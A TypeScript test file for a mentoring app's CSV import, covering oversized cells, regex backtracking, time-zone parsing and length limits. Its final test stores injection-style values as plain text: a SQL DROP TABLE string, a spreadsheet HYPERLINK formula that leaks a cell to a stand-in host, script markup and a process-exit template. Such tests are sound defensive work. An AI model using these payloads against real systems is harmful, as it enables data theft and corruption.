import { describe, expect, it } from 'vitest';
import { IMPORT_FIELDS, previewImport, type ColumnMapping } from '../../src/core/import';
import { CELL_LIMITS } from '../../src/core/import/limits';
import { parseAvailability } from '../../src/core/import/normalise';
import { normaliseTimeZone } from '../../src/core/import/timezones';
import { validateTable } from '../../src/core/import/validate';
import { listMembers } from '../../src/core/participants/members';
import { ensureProgramAndCohort } from '../../src/core/programs/programs';
import { runImport } from '../../src/core/import';
import { bytes, tempStore } from '../unit/temp';
import { cliImport, fingerprint, stillWorks, workspace } from './build';

const csvCell = (text: string) => `"${text.replace(/"/g, '""')}"`;
const elapsed = (fn: () => unknown) => {
  const started = performance.now();
  fn();
  return performance.now() - started;
};

describe('huge and pathological cells', () => {
  it('a 150 KB availability cell is one row problem, quoted shortened, found at once (the preview took 12 s)', async () => {
    const store = await tempStore();
    const availability = `Mon${' '.repeat(150_000)}9-`;
    const csv = `Full name,Email,Role,Availability\nAna Ruiz,ana@example.org,Mentor,${csvCell(availability)}\n`;
    const started = performance.now();
    const preview = await previewImport(store, { programId: null, fileName: 'slow.csv', bytes: bytes(csv) });
    expect(performance.now() - started).toBeLessThan(1000);
    expect(preview.problems).toEqual([
      { line: 2, column: 'Availability', value: `Mon${' '.repeat(77)}…`, message: 'longer than the limit of 1,000 characters (it has 150,005)' },
    ]);
  });

  it('a 1.4 MB time-zone cell is refused by the CLI at once with the line, column and a shortened value; nothing is written (it took 40 s)', async () => {
    const { dir, db } = await workspace();
    const before = fingerprint(db);
    const zone = 'Europe/Berlin'.repeat(110_000);
    const started = performance.now();
    const result = await cliImport(dir, db, 'zone.csv', `Full name,Email,Role,Time zone\nAna Ruiz,ana@example.org,Mentor,${zone}\n`);
    expect(performance.now() - started).toBeLessThan(3000);
    expect(result).toEqual({
      code: 1,
      stdout: '',
      stderr: `Nothing was imported: 1 problem found. Fix the file or skip invalid rows.\nline 2, column "Time zone", value "${zone.slice(0, 80)}…": longer than the limit of 100 characters (it has 1,430,000)`,
    });
    expect(fingerprint(db)).toBe(before);
    await stillWorks(dir, db);
  });

  it('the availability parser is linear: 150,000-character segments of the patterns that made the old pattern backtrack', () => {
    const n = 150_000;
    for (const text of [`Mon${' '.repeat(n)}9-`, `Mon 9${' '.repeat(n)}x`, `Mon 9${'to'.repeat(n / 2)}`, '1 '.repeat(n / 2), `${'Mon '.repeat(n / 4)}9-10x`]) {
      expect(elapsed(() => expect(parseAvailability(text)).toMatchObject({ ok: false }))).toBeLessThan(300);
    }
    // Its answers on ordinary cells are those of the old pattern (tests/unit/import.test.ts has the rest).
    expect(parseAvailability('Mon 9 am  to  11 am; weekends 10-12')).toMatchObject({ ok: true, value: [{ day: 0, start: 540, end: 660 }, { day: 5 }, { day: 6 }] });
    expect(parseAvailability('Tue, Thu 08:00 – 09:30')).toMatchObject({ ok: true, value: [{ day: 1, start: 480, end: 570 }, { day: 3 }] });
    expect(parseAvailability('Mon 25:00-26:00')).toEqual({ ok: false, error: '"Mon 25:00-26:00" has a time that is not like 18:00 or 6pm' });
    expect(parseAvailability(`Mon 9${'x'.repeat(100)}`)).toEqual({ ok: false, error: `"Mon 9${'x'.repeat(55)}…" is not like "Mon 18:00-20:00"` });
  });

  it('time zones: no suggestion is computed for a long answer, and any length answers at once', () => {
    expect(normaliseTimeZone('Europe/Londn')).toMatchObject({ ok: false, error: expect.stringContaining('did you mean "Europe/London"') });
    const noSuggestion = { ok: false, error: 'unknown time zone; use an IANA name like "Europe/Berlin" or an offset like "UTC+02:00"' };
    expect(normaliseTimeZone('Somewhere over the rainbow, far far far away')).toEqual(noSuggestion);
    // "Pacific/…" is an IANA area, not US Pacific time: this answer was read as America/Los_Angeles.
    expect(normaliseTimeZone('Pacific/Auckland, New Zealand Daylight Time')).toEqual(noSuggestion);
    expect(normaliseTimeZone('(GMT-08:00) Pacific Time (US & Canada)')).toEqual({ ok: true, value: 'America/Los_Angeles' });
    expect(elapsed(() => normaliseTimeZone('Eastern '.repeat(200_000)))).toBeLessThan(100);
    expect(normaliseTimeZone('x'.repeat(101))).toEqual({ ok: false, error: 'unknown time zone: longer than 100 characters' });
  });

  it('every field one character past its limit is one problem of its own, and nothing more about that cell', () => {
    const fields = IMPORT_FIELDS.filter((f) => f !== 'fullName');
    const mapping: ColumnMapping = fields.map((field) => ({ column: field, field }));
    const cells = fields.map((field) => 'a'.repeat(CELL_LIMITS[field] + 1));
    const result = validateTable({ headers: fields, rows: [cells] }, mapping);
    expect(result.valid).toEqual([]);
    expect(result.problems.map((p) => [p.column, p.message])).toEqual(
      fields.map((field) => [field, `longer than the limit of ${CELL_LIMITS[field].toLocaleString('en-US')} characters (it has ${(CELL_LIMITS[field] + 1).toLocaleString('en-US')})`]),
    );
    for (const problem of result.problems) expect(problem.value.length).toBeLessThanOrEqual(81);
    // At the limit, a row is read as usual.
    const atLimit = validateTable(
      { headers: ['Full name', 'Email', 'Role', 'Goals'], rows: [['A'.repeat(200), `${'a'.repeat(300)}@example.org`, 'Mentor', 'g'.repeat(2000)]] },
      [{ column: 'Full name', field: 'fullName' }, { column: 'Email', field: 'email' }, { column: 'Role', field: 'role' }, { column: 'Goals', field: 'goals' }],
    );
    expect(atLimit.problems).toEqual([]);
    expect(atLimit.valid[0]).toMatchObject({ fullName: 'A'.repeat(200), goals: 'g'.repeat(2000) });
  });

  it('first and last name together are held to the name limit', () => {
    const mapping: ColumnMapping = [{ column: 'First', field: 'firstName' }, { column: 'Last', field: 'lastName' }, { column: 'Email', field: 'email' }, { column: 'Role', field: 'role' }];
    const result = validateTable({ headers: ['First', 'Last', 'Email', 'Role'], rows: [['a'.repeat(150), 'b'.repeat(150), 'a@example.org', 'mentor']] }, mapping);
    expect(result.problems.map((p) => [p.column, p.message])).toEqual([['First', 'first and last name together are longer than 200 characters']]);
  });

  it('cells that look like SQL, formulas or markup are stored as the text they are, and nothing else changes', async () => {
    const store = await tempStore();
    const cohort = ensureProgramAndCohort(store, 'P', 'C');
    const name = "Robert'); DROP TABLE people;--";
    const goals = '=HYPERLINK("http://x.example/?"&A1,"click") <script>alert(1)</script> {{7*7}} ${process.exit()}';
    const csv = `Full name,Email,Role,Goals,Department\n${csvCell(name)},bobby@example.org,Mentee,${csvCell(goals)},"@SUM(1+1)"\n`;
    expect(await runImport(store, { cohortId: cohort.id, fileName: 'x.csv', bytes: bytes(csv), skipInvalid: false })).toMatchObject({ added: 1 });
    expect(listMembers(store, cohort.id)).toMatchObject([{ fullName: name, goals, department: '@SUM(1+1)' }]);
    expect(store.sqlite.prepare("SELECT count(*) AS n FROM sqlite_master WHERE name = 'people'").get()).toEqual({ n: 1 });
  });
});
